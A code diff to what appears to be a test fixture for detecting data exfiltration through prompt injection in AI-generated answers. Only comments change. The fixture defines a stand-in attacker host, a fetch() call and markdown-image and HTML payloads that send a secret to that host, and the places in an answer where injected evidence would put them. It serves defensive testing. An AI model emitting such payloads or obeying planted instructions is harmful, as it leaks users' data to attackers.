@@ -1,10 +1,10 @@
-/** Whose server everything is to be sent to. */
+/** The attacker's server. */
 export const EVIL = 'evil.example';
 
 const DATA = `https://${EVIL}/a.png?q=secret`;
 const SCRIPT = `fetch('${DATA}')`;
 
-/** What an order in evidence has answers say: pictures, links, HTML and scripts that carry data away. */
+/** Texts that an instruction in evidence puts into answers: images, links, HTML and scripts that send data away. */
 const PAYLOADS: readonly string[] = [
   `![x](${DATA})`,
   `![x](<${DATA}> "title")`,
@@ -53,7 +53,7 @@ const PAYLOADS: readonly string[] = [
   `- \`\`\`\n<img src="${DATA}">`,
 ];
 
-/** Where in an answer they stand. */
+/** Their places in an answer. */
 const PLACES: readonly ((payload: string) => string)[] = [
   (payload) => payload,
   (payload) => `The stock is restored [1]. ${payload} It says so [1].`,
